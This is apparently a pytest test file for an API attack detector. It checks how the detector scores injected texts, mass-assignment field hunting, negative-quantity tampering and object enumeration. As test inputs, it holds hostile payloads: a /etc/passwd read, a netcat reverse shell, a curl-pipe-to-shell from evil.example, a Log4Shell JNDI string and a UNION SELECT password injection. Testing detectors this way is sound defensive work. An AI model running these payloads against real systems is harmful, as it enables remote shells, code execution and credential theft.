"""Lone odd texts, fields that nobody sends, and cases that are over."""

import json
from typing import Any

import pytest

from apisentinel.detectors import content
from apisentinel.features.body_marks import AMOUNT
from apisentinel.features.reply_marks import SECRETS
from apisentinel.pipeline import ScanSettings, ScoreSession
from apisentinel.pipeline.contents import Asked, Contents
from apisentinel.pipeline.lone_findings import LoneFindings

AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0"


def request(second: int, client: str, user: str, path: str, body: Any = None, **more: Any) -> str:
    hours, rest = divmod(second, 3600)
    fields: dict[str, Any] = {
        "method": "POST" if body is not None else "GET", "path": path, "client_ip": client,
        "ts": f"2026-11-02T{hours:02d}:{rest // 60:02d}:{rest % 60:02d}Z", "status": 200,
        "user_agent": AGENT, "user_id": user,
    }  # fmt: skip
    if body is not None:
        fields["request_body"] = json.dumps(body)
    return json.dumps(fields | more)


def scored(session: ScoreSession, lines: list[str]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in session.score("\n".join(lines).encode()).splitlines()]


PASTED = "cat access.log | grep 500 | wc -l"
UNION = "1' union select password from users-- "


def test_a_pasted_text_of_a_user_waits_for_a_second_sign() -> None:
    session = ScoreSession(ScanSettings())
    alone, stranger = scored(
        session,
        [
            request(1, "192.0.2.1", "anna", "/notes", {"text": PASTED}),
            request(2, "192.0.2.2", "", "/notes", {"text": PASTED}),
        ],
    )
    assert alone["risk"] < 40 <= stranger["risk"]


def test_several_odd_texts_of_one_type_are_an_attack() -> None:
    session = ScoreSession(ScanSettings())
    texts = ["a; cat /etc/passwd", "b | nc 192.0.2.9 4444 -e /bin/sh", "$(curl evil.example|sh)"]
    lines = [request(k, "192.0.2.1", "eve", "/notes", {"text": t}) for k, t in enumerate(texts)]
    assert scored(session, lines)[-1]["risk"] >= 40


def test_a_certain_attack_does_not_wait() -> None:
    session = ScoreSession(ScanSettings())
    body = {"text": "${jndi:ldap://192.0.2.9/a}"}
    assert scored(session, [request(1, "192.0.2.1", "eve", "/notes", body)])[0]["risk"] >= 40


def forms(count: int, **more: Any) -> list[str]:
    return [
        request(10 * k, f"10.0.{k % 200}.1", f"u{k}", "/profile", {"name": f"n{k}"} | more)
        for k in range(count)
    ]


@pytest.mark.parametrize(("more", "found"), [({}, True), ({"role": "user"}, False)])
def test_a_field_that_no_form_has_is_mass_assignment(more: dict[str, str], found: bool) -> None:
    session = ScoreSession(ScanSettings())
    scored(session, forms(400, **more))
    last = scored(
        session, [request(5_000, "192.0.2.9", "eve", "/profile", {"name": "e", "role": "admin"})]
    )[0]
    assert ("mass_assignment" in last["attack_types"] and last["risk"] >= 40) is found


def test_a_negative_quantity_is_tampering() -> None:
    session = ScoreSession(ScanSettings())
    orders = [
        request(10 * k, f"10.0.{k % 100}.1", f"u{k % 100}", "/orders", {"qty": 1 + k % 4})
        for k in range(300)
    ]
    scored(session, orders)
    bad = [request(4_000 + k, "192.0.2.9", "eve", "/orders", {"qty": -1 - k}) for k in range(2)]
    last = scored(session, bad)[-1]
    assert "parameter_tampering" in last["attack_types"]
    assert last["risk"] >= 40


def test_memories_survive_a_restart() -> None:
    session = ScoreSession(ScanSettings())
    scored(session, [*forms(40), request(900, "192.0.2.1", "anna", "/notes", {"text": PASTED})])
    judge = session.engine.cases
    memory = judge.memory()
    assert memory.signs
    fresh = LoneFindings()
    fresh.recall(memory.signs)
    assert fresh.memory() == memory.signs
    contents = Contents(*(None,) * 6)  # type: ignore[arg-type]  # never called
    contents.recall(memory.contents)
    assert contents.memory() == memory.contents


def test_a_case_is_over_after_a_quiet_hour() -> None:
    session = ScoreSession(ScanSettings())
    attack = {"query": "q=1%27%20union%20select%20password%20from%20users--%20"}
    scored(session, [request(5, "192.0.2.9", "", "/search", **attack)])
    scored(session, [request(5 + 3 * 3600, "192.0.2.9", "", "/search", **attack)])
    ledger = session.engine.cases.ledger
    assert [case.alert_ts for case in ledger.past] < [
        case.alert_ts for case in ledger.cases.values() if case.alert_ordinal is not None
    ]
    assert len(ledger.past) == 1


def test_fields_tried_one_after_the_other_count_as_one_hunt() -> None:
    """A form has its fields from the start; who adds another one each time is looking."""
    form = {"street": "Mill Lane 1", "role": "member", "plan": "free", "tier": "basic"}
    honest = [request(k, "192.0.2.1", "anna", "/profile", form) for k in range(4)]
    assert all(v["risk"] < 40 for v in scored(ScoreSession(ScanSettings()), honest))
    extras = ({"account_type": "staff"}, {"balance": 9}, {"credit": 5}, {"is_admin": True})
    hunt = [
        request(60 * k, "192.0.2.1", "eve", "/profile", {"street": "Mill Lane 1"} | extra)
        for k, extra in enumerate(extras)
    ]
    last = scored(ScoreSession(ScanSettings()), hunt)[-1]
    assert last["attack_types"] == ["mass_assignment"]
    assert last["risk"] >= 40


def visits(path: str, users: int = 14) -> list[str]:
    """Users who come back to their own objects."""
    return [
        request(visit * 4000 + u * 20, "192.0.2.1", f"u{u}", path.format(1000 + 97 * u))
        for visit in range(3)
        for u in range(users)
    ]


def walk(path: str, begin: int = 14_000) -> list[str]:
    return [
        request(begin + 9 * k, "198.51.100.7", "eve", path.format(5000 + k), credential_id="key")
        for k in range(40)
    ]


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("/api/orders/{}", "bola"),
        ("/admin/orders/{}", "insider_misuse"),
        ("/api/products/{}", "scraping"),
    ],
)
def test_reading_much_is_named_after_the_place(path: str, name: str) -> None:
    found = scored(ScoreSession(ScanSettings()), visits(path) + walk(path))[-40:]
    types = {kind for verdict in found for kind in verdict["attack_types"]}
    assert name in types
    assert not types & ({"bola", "insider_misuse", "scraping"} - {name})


@pytest.mark.parametrize(
    ("first", "who", "told"),
    [(1_000, 4, True), (1_000, 13, False), (1, 4, False), (1, 3, True)],
)
def test_secrets_are_the_habit_of_a_young_endpoint_sooner_than_of_an_old_one(
    first: int, who: int, *, told: bool
) -> None:
    contents = Contents(*(None,) * 4, content.Exposure(), None)  # type: ignore[arg-type]  # unused
    for number in range(1, who):
        contents.reply(Asked(1, number, first + number, "/me", None, None, ()), SECRETS)
    found = contents.reply(Asked(1, who, first + who, "/me", None, None, ()), SECRETS)
    assert (found is not None) == told


def test_the_same_number_at_the_next_step_is_one_piece_of_evidence() -> None:
    contents = Contents(None, content.Amounts(), None, None, None, content.Totals())  # type: ignore[arg-type]  # unused

    def pay(step: int, who: int, n: int, amount: float) -> list[str]:
        asked = Asked(step, who, n, "/pay", None, f'{{"amount":{amount}}}'.encode())
        return [name for name, _ in contents.judge(asked, AMOUNT)]

    for n in range(200):
        for step in (1, 2):
            assert not pay(step, n % 40, n + 1, 20.0 + n % 60)
    first, second = pay(1, 99, 201, 0.64), pay(2, 99, 201, 0.64)
    assert first
    assert first == second
    assert pay(2, 99, 202, 0.05) != first
